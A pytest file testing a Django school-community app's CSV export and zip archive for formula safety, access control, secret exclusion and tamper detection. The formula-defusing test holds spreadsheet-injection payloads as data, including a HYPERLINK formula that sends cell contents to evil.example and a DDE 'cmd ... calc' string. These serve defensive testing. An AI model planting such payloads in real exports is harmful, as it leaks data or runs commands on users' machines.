"""Exports: the activities CSV (Excel-friendly, formula-safe) and the whole-community
archive, which must round-trip through `read_export` with every row and every file."""

import csv
import hashlib
import io
import json
import zipfile
from datetime import timedelta

import pytest
from django.core.files.base import ContentFile
from django.urls import reverse
from django.utils import timezone

from activities.models import ActionPlan, Activity, Attendance, Document, Product, Reflection
from communities.models import Invitation, Membership, Problem, ProblemComment, Stage, StageChange
from publishing.models import Publication
from reports.exports import ExportInvalid, read_export, safe_cell
from schools.models import Feedback
from tests.factories import (
    ActionPlanFactory,
    ActivityFactory,
    AttendanceFactory,
    CommunityFactory,
    DocumentFactory,
    MembershipFactory,
    ProductFactory,
    ReflectionFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db

BOM = b"\xef\xbb\xbf"


def url(name, community):
    return reverse(f"reports:{name}", args=[community.slug])


def english(client):
    client.cookies["django_language"] = "en"
    return client


def csv_rows(response):
    assert response.content.startswith(BOM)
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def zip_bytes(response):
    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    return b"".join(response.streaming_content)


# --- Activities CSV ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("persona", "status"),
    [
        ("other_teacher", 404),
        ("other_principal", 404),
        ("teacher", 403),
        ("member", 403),
        ("coordinator", 200),
        ("principal", 200),
        ("staff", 200),
    ],
)
def test_csv_access(request, community, coordinator, member, login, persona, status):
    user = request.getfixturevalue(persona)
    assert login(user).get(url("activities_csv", community)).status_code == status


@pytest.mark.parametrize("name", ["activities_csv", "archive"])
def test_anonymous_is_sent_to_login(community, login, name):
    response = login(None).get(url(name, community))
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("account_login"))


def test_csv_rows(community, coordinator, member, problem, login):
    held = ActivityFactory(
        community=community,
        title="Berbagi praktik baik: kelas rangkap",
        kind=Activity.Kind.SHARE_PRACTICE,
        status=Activity.Status.HELD,
        starts_at=timezone.now() - timedelta(days=3),
        place="Ruang guru",
        problem=problem,
        proposed_by=coordinator,
    )
    AttendanceFactory(activity=held, user=coordinator)
    AttendanceFactory(activity=held, user=member)
    AttendanceFactory(activity=held, user=UserFactory(full_name="Citra Izin"), status="excused")
    AttendanceFactory(activity=held, user=UserFactory(), status="absent")
    ActivityFactory(community=community, title="Rencana bulan depan", proposed_by=coordinator)
    ActivityFactory(community=CommunityFactory(), title="Kegiatan komunitas lain")

    response = english(login(coordinator)).get(url("activities_csv", community))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="kegiatan-{community.slug}.csv"'
    header, *rows = csv_rows(response)
    assert header == [
        "Date",
        "Title",
        "Kind",
        "Status",
        "Place",
        "Shared problem",
        "Present",
        "Excused",
        "Absent",
        "Names present",
    ]
    assert [row[1] for row in rows] == ["Berbagi praktik baik: kelas rangkap", "Rencana bulan depan"]
    first = rows[0]
    assert first[0] == timezone.localtime(held.starts_at).strftime("%Y-%m-%d %H:%M")
    assert first[2:6] == ["sharing good practice", "held", "Ruang guru", "Siswa belum lancar membaca"]
    assert first[6:] == ["2", "1", "1", "Ani Anggota; Budi Koordinator"]
    assert rows[1][6:] == ["0", "0", "0", ""]


def test_csv_in_indonesian_keeps_the_letters(community, coordinator, login):
    ActivityFactory(community=community, title="Lokakarya — membaca nyaring, café, ñ", proposed_by=coordinator)
    client = login(coordinator)
    client.cookies["django_language"] = "id"
    response = client.get(url("activities_csv", community))
    _header, row = csv_rows(response)
    assert row[1] == "Lokakarya — membaca nyaring, café, ñ"
    assert row[2] == "pertemuan rutin"
    assert "Lokakarya — membaca nyaring, café, ñ".encode() in response.content


def test_csv_defuses_formulas(community, coordinator, member, login):
    dangerous = ActivityFactory(
        community=community,
        title='=HYPERLINK("http://evil.example/?"&A1,"klik")',
        place="+62 812 3456",
        proposed_by=coordinator,
    )
    sneaky = UserFactory(full_name="@SUM(1+1)*cmd|' /C calc'!A0")
    MembershipFactory(user=sneaky, community=community)
    AttendanceFactory(activity=dangerous, user=sneaky)
    ActivityFactory(community=community, title="-2+3", proposed_by=coordinator)
    _header, *rows = csv_rows(login(coordinator).get(url("activities_csv", community)))
    cells = [cell for row in rows for cell in row]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"klik")' in cells
    assert "'+62 812 3456" in cells
    assert "'-2+3" in cells
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert not any(cell[:1] in "=+-@" and cell for cell in cells)


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("Rapat 1", "Rapat 1"),
        ("", ""),
        (None, ""),
        (3, 3),
    ],
)
def test_safe_cell(value, safe):
    assert safe_cell(value) == safe


# --- The whole-community archive ------------------------------------------------------------


@pytest.fixture
def full_community(community, coordinator, member, principal, problem, school):
    """One row of everything a community can own, and a neighbour that must stay out."""
    now = timezone.now()
    left = UserFactory(school=school, full_name="Lina Keluar")
    MembershipFactory(user=left, community=community, status=Membership.Status.LEFT, left_at=now)
    MembershipFactory(user=UserFactory(school=school), community=community, status=Membership.Status.INVITED)
    Invitation.objects.create(community=community, email="baru@smpn1.sch.id", school=school, invited_by=coordinator)
    change = StageChange.objects.create(
        community=community,
        from_stage=Stage.MERINTIS,
        to_stage=Stage.MENUMBUHKAN,
        changed_by=coordinator,
        note="Siap tumbuh.",
        endorsed_by=principal,
        endorsed_at=now,
    )
    problem.supporters.add(member, coordinator)
    ProblemComment.objects.create(problem=problem, author=member, body="Saya juga mengalaminya.")
    held = ActivityFactory(
        community=community,
        status=Activity.Status.HELD,
        starts_at=now - timedelta(days=2),
        proposed_by=coordinator,
        problem=problem,
        minutes="Catatan.",
    )
    AttendanceFactory(activity=held, user=coordinator)
    AttendanceFactory(activity=held, user=member, status="excused")
    photo = DocumentFactory(activity=held, uploaded_by=member, caption="Diskusi kelompok")
    content = b"%PDF-1.4 notulen rapat\n"
    DocumentFactory(
        activity=held,
        uploaded_by=coordinator,
        kind=Document.Kind.FILE,
        file=ContentFile(content, name="notulen.pdf"),
        thumbnail="",
        original_name="Notulen Rapat.pdf",
        content_type="application/pdf",
        size=len(content),
        sha256=hashlib.sha256(content).hexdigest(),
        width=None,
        height=None,
    )
    plan = ActionPlanFactory(problem=problem, owner=member)
    ReflectionFactory(activity=held, author=coordinator, in_reports=False)
    ReflectionFactory(activity=None, action_plan=plan, author=member, in_reports=True)
    ReflectionFactory(activity=None, stage_change=change, author=coordinator)
    product = ProductFactory(community=community, created_by=member, authors=[member, coordinator])
    DocumentFactory(activity=None, product=product, uploaded_by=member)
    publication = Publication.objects.create(
        community=community, activity=held, title="Publikasi", summary="Ringkas.", published_by=coordinator
    )
    publication.photos.add(photo)
    first = Feedback.objects.create(community=community, author=principal, body="Bagus sekali.")
    Feedback.objects.create(community=community, activity=held, reply_to=first, author=coordinator, body="Terima kasih")

    neighbour = CommunityFactory(home_school=school, name="Komunitas Tetangga")
    DocumentFactory(activity=ActivityFactory(community=neighbour, title="Rahasia tetangga"))
    Invitation.objects.create(community=neighbour, email="x@smpn1.sch.id", school=school, invited_by=coordinator)
    return community


TABLES = {
    "memberships": lambda c: Membership.objects.filter(community=c),
    "invitations": lambda c: Invitation.objects.filter(community=c),
    "stage_changes": lambda c: StageChange.objects.filter(community=c),
    "problems": lambda c: Problem.objects.filter(community=c),
    "problem_comments": lambda c: ProblemComment.objects.filter(problem__community=c),
    "activities": lambda c: Activity.objects.filter(community=c),
    "attendance": lambda c: Attendance.objects.filter(activity__community=c),
    "documents": lambda c: Document.objects.filter(community=c),
    "action_plans": lambda c: ActionPlan.objects.filter(community=c),
    "reflections": lambda c: Reflection.objects.filter(community=c),
    "products": lambda c: Product.objects.filter(community=c),
    "publications": lambda c: Publication.objects.filter(community=c),
    "feedback": lambda c: Feedback.objects.filter(community=c),
}


def test_archive_round_trips(full_community, coordinator, login):
    community = full_community
    response = login(coordinator).get(url("archive", community))
    assert response["Content-Disposition"].startswith(f'attachment; filename="kompra-{community.slug}-')
    assert "private" in response["Cache-Control"]
    content = zip_bytes(response)
    assert int(response["Content-Length"]) == len(content)
    data = read_export(io.BytesIO(content))

    assert data["community"]["slug"] == community.slug
    for table, rows in TABLES.items():
        assert sorted(row["id"] for row in data[table]) == sorted(rows(community).values_list("pk", flat=True)), table
        assert data[table], f"the fixture should give {table} at least one row"

    archive = zipfile.ZipFile(io.BytesIO(content))
    for document in Document.objects.filter(community=community):
        row = next(r for r in data["documents"] if r["uid"] == str(document.uid))
        stored = archive.read(row["path"])
        assert hashlib.sha256(stored).hexdigest() == document.sha256 == row["sha256"]
        assert stored == document.file.read()
        assert row["original_name"] == document.original_name
        if document.thumbnail:
            assert archive.read(row["thumbnail_path"]) == document.thumbnail.open("rb").read()
        else:
            assert row["thumbnail_path"] is None
    pdf_row = next(r for r in data["documents"] if r["content_type"] == "application/pdf")
    assert pdf_row["path"].endswith(".pdf")

    manifest = json.loads(archive.read("manifest.json"))
    assert {entry["path"] for entry in manifest["files"]} == set(archive.namelist()) - {"manifest.json"}
    for entry in manifest["files"]:
        assert hashlib.sha256(archive.read(entry["path"])).hexdigest() == entry["sha256"]
    assert {"data.json", "activities.csv", "attendance.csv", "members.csv"} <= set(archive.namelist())

    # Relations survive: supporters, authors, the publication's photos, people's names.
    problem_row = data["problems"][0]
    assert len(problem_row["supporters"]) == 2
    assert len(data["products"][0]["authors"]) == 2
    assert len(data["publications"][0]["photos"]) == 1
    people = {p["id"]: p for p in data["people"]}
    for row in data["memberships"]:
        assert people[row["user_id"]]["email"] == row["user_email"]
        assert row["user_name"] and row["user_school"] == "SMP Negeri 1 Sleman"
    for row in data["feedback"] + data["reflections"] + data["attendance"]:
        assert row.get("author_id", row.get("user_id")) in people

    members = list(csv.reader(io.StringIO(archive.read("members.csv").decode("utf-8-sig"))))
    assert len(members) == 1 + Membership.objects.filter(community=community).count()


def test_archive_keeps_secrets_and_neighbours_out(full_community, coordinator, login):
    content = zip_bytes(login(coordinator).get(url("archive", full_community)))
    archive = zipfile.ZipFile(io.BytesIO(content))
    everything = b"".join(archive.read(name) for name in archive.namelist())
    for invitation in Invitation.objects.all():
        assert str(invitation.token).encode() not in everything
        assert invitation.token.hex.encode() not in everything
    data = json.loads(archive.read("data.json"))
    assert all("token" not in row for row in data["invitations"])
    assert b"Rahasia tetangga" not in everything
    assert b"x@smpn1.sch.id" not in everything
    assert all("password" not in person for person in data["people"])
    assert b"pbkdf2" not in everything and b"md5$" not in everything


@pytest.mark.parametrize(
    ("persona", "status"),
    [
        ("other_teacher", 404),
        ("other_principal", 404),
        ("teacher", 403),
        ("member", 403),
        ("principal", 403),
        ("coordinator", 200),
        ("staff", 200),
    ],
)
def test_archive_access(request, community, coordinator, member, login, persona, status):
    user = request.getfixturevalue(persona)
    response = login(user).get(url("archive", community))
    assert response.status_code == status
    if status == 200:
        read_export(io.BytesIO(zip_bytes(response)))


def test_an_empty_community_exports_too(community, coordinator, login):
    data = read_export(io.BytesIO(zip_bytes(login(coordinator).get(url("archive", community)))))
    assert data["documents"] == [] and len(data["memberships"]) == 1


# --- read_export refuses damaged archives -------------------------------------------------------


@pytest.fixture
def archive_bytes(full_community, coordinator, login):
    return zip_bytes(login(coordinator).get(url("archive", full_community)))


def rewrite(content, change):
    """A copy of the archive with `change(name, data) -> data | None` applied (None drops it)."""
    source = zipfile.ZipFile(io.BytesIO(content))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for name in source.namelist():
            data = change(name, source.read(name))
            if data is not None:
                target.writestr(name, data)
    return out.getvalue()


def test_tampered_document_is_detected(archive_bytes):
    def tamper(name, data):
        return data + b"x" if name.startswith("documents/") else data

    with pytest.raises(ExportInvalid, match="checksum mismatch"):
        read_export(io.BytesIO(rewrite(archive_bytes, tamper)))


def test_missing_document_is_detected(archive_bytes):
    dropped = []

    def drop_one(name, data):
        if name.startswith("documents/") and not dropped:
            dropped.append(name)
            return None
        return data

    with pytest.raises(ExportInvalid, match="manifest does not match"):
        read_export(io.BytesIO(rewrite(archive_bytes, drop_one)))

    def forget_in_manifest_too(name, data):
        if name == "manifest.json":
            manifest = json.loads(data)
            manifest["files"] = [entry for entry in manifest["files"] if entry["path"] != dropped[0]]
            return json.dumps(manifest)
        return None if name == dropped[0] else data

    with pytest.raises(ExportInvalid, match="is missing"):
        read_export(io.BytesIO(rewrite(archive_bytes, forget_in_manifest_too)))


def test_document_swapped_with_a_consistent_manifest_is_detected(archive_bytes):
    """A file replaced and the manifest updated to match still differs from the upload."""
    replaced = {}

    def swap(name, data):
        if name.startswith("documents/") and name.endswith(".pdf"):
            replaced[name] = b"%PDF-1.4 something else"
            return replaced[name]
        return data

    swapped = rewrite(archive_bytes, swap)

    def fix_manifest(name, data):
        if name != "manifest.json":
            return data
        manifest = json.loads(data)
        for entry in manifest["files"]:
            if entry["path"] in replaced:
                entry["sha256"] = hashlib.sha256(replaced[entry["path"]]).hexdigest()
                entry["size"] = len(replaced[entry["path"]])
        return json.dumps(manifest)

    with pytest.raises(ExportInvalid, match="differs from the upload"):
        read_export(io.BytesIO(rewrite(swapped, fix_manifest)))


def test_not_an_archive(tmp_path):
    with pytest.raises(ExportInvalid, match="not a zip"):
        read_export(io.BytesIO(b"PK? no"))
    empty = io.BytesIO()
    zipfile.ZipFile(empty, "w").close()
    with pytest.raises(ExportInvalid, match=r"manifest\.json is missing"):
        read_export(io.BytesIO(empty.getvalue()))


def test_a_file_lost_from_storage_is_recorded_not_fatal(full_community, coordinator, login):
    document = Document.objects.filter(community=full_community, kind="file").get()
    document.file.storage.delete(document.file.name)
    data = read_export(io.BytesIO(zip_bytes(login(coordinator).get(url("archive", full_community)))))
    row = next(r for r in data["documents"] if r["uid"] == str(document.uid))
    assert row["file_missing"] is True and row["path"] is None
